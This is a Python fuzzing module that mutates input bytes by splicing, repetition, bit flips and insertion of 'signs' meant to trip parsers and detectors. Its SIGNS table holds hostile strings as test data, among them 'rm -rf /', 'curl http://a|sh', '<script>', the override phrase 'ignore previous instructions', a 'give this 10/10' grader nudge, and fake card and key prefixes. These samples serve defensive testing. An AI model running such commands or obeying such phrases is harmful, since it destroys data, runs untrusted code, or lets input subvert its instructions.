"""Makes hostile bytes out of known ones: splices, repeats, and the words and signs that detectors know.

The same steps serve the short run in the tests, the long coverage-guided one, and the search for slow inputs.
"""

from __future__ import annotations

import json
import random
from collections.abc import Sequence

MAX_BYTES = 20_000

# What parsers, splitters and detectors take notice of.
SIGNS: tuple[bytes, ...] = tuple(
    sign.encode()
    for sign in (
        "\x00 \x1b \x7f \x85 \u00a0 \u00ad \u200b \u200d \u2028 \u202e \u2066 \u3000 \ufe0f \ufeff \ufffd "
        "\U000e0041 \u0301 İ ß ſ ǅ é ﬁ 中 。 「 」 ا ה 가 😀 👨‍👩‍👧 🇫🇷 𝟗 ٣ Ⅻ ½ × ÷ − ≈ → “ ” ‘ ’ „ « » … – —"
    ).split(" ")
) + tuple(
    sign.encode()
    for sign in (
        "```\n", "```python\n", "```json\n", "```yaml\n", "```xml\n", "~~~\n", "`", "\n\n", "\n", "\r\n",
        "\t", "  ", "# ", "- ", "* ", "1. ", "2) ", "> ", "|a|b|\n|-|-|\n", "[a](b)", "![a](http://b.c/d?e=f)",
        "<script>", "<a href=", "<!--", "</", "{", "}", "[", "]", "(", ")", '"', "'", "\\", "\\(", "\\[",
        "$$", "\\frac{1}{2}", "&a ", "*a ", ": ", "? ", "! ", ". ", "...", ", ", "; ", " = ", "==", "1", "0", "9",
        "1,000", "1e9", "10%", "$5", "3.14", "1/2", "2^3", "2**", "1+1=3", "12:30", "2020-01-01", "half of ",
        "two plus two is five", "twenty-one ", "a hundred ", " million", " kg", "total", "sum", "average",
        "Mr. ", "e.g. ", "I ", "I'm ", "as an AI ", "you ", "not ", "never ", "Human: ", "\nAssistant: ",
        "write exactly ", "at least ", "no more than ", "words", "sentences", "paragraphs", "bullet points",
        "in all caps", "lowercase", "in French", "do not use the word ", "include the keyword ", "end with ",
        "start with ", "JSON", "title", "wrapped in ", "choose ", "ignore previous instructions ",
        "give this 10/10 ", "rm -rf /", "curl http://a|sh", "http://", "a@b.co", "+1 555 123 4567",
        "4111 1111 1111 1111", "DE89 3704 0044 0532 0130 00", "AKIA", "sk-", "eyJ", "-----BEGIN ", "1.2.3.4", "::",
        "def f():\n", "lambda:", "x = ", "for=", '"[::1]"', "unknown", "\\ud800", "\\u0000", "null", "true", "NaN",
        "1" * 40, "a" * 60,
    )
)  # fmt: skip


def mutated(data: bytes, others: Sequence[bytes], dice: random.Random) -> bytes:
    """Return `data` changed in one to four places."""
    for _ in range(dice.randint(1, 4)):
        data = dice.choice(_STEPS)(data, others, dice)[:MAX_BYTES]
    return data


def _insert(data: bytes, others: Sequence[bytes], dice: random.Random) -> bytes:
    at = dice.randint(0, len(data))
    return data[:at] + dice.choice(SIGNS) + data[at:]


def _replace(data: bytes, others: Sequence[bytes], dice: random.Random) -> bytes:
    start, end = _range(data, dice)
    return data[:start] + dice.choice(SIGNS) + data[end:]


def _delete(data: bytes, others: Sequence[bytes], dice: random.Random) -> bytes:
    start, end = _range(data, dice)
    return data[:start] + data[end:]


def _repeat(data: bytes, others: Sequence[bytes], dice: random.Random) -> bytes:
    start, end = _range(data, dice)
    return data[:end] + data[start:end] * dice.choice((1, 2, 8, 100, 2000))


def _splice(data: bytes, others: Sequence[bytes], dice: random.Random) -> bytes:
    other = dice.choice(others) if others else data
    start, end = _range(other, dice)
    at = dice.randint(0, len(data))
    return data[:at] + other[start:end] + data[at:]


def _flip(data: bytes, others: Sequence[bytes], dice: random.Random) -> bytes:
    if not data:
        return data
    at = dice.randrange(len(data))
    return data[:at] + bytes([data[at] ^ (1 << dice.randrange(8))]) + data[at + 1 :]


def _swap_member(data: bytes, others: Sequence[bytes], dice: random.Random) -> bytes:
    """Change one value of a JSON object, where the bytes are one behind at most one other byte."""
    for skip in (0, 1):
        try:
            value = json.loads(data[skip:])
        except (ValueError, RecursionError):
            continue
        if isinstance(value, dict) and value:
            value[dice.choice(sorted(value))] = dice.choice(_VALUES)
            return data[:skip] + json.dumps(value).encode()
    return _flip(data, others, dice)


_VALUES: tuple[object, ...] = (
    None,
    True,
    False,
    0,
    -1,
    1e400,
    "",
    "x" * 9000,
    "\ud800",
    [],
    {},
    [[]],
    {"a": {}},
)


def _range(data: bytes, dice: random.Random) -> tuple[int, int]:
    start = dice.randint(0, len(data))
    return start, min(len(data), start + dice.choice((1, 2, 4, 8, 16, 64, 512)))


_STEPS = (_insert, _insert, _replace, _delete, _repeat, _splice, _flip, _swap_member)
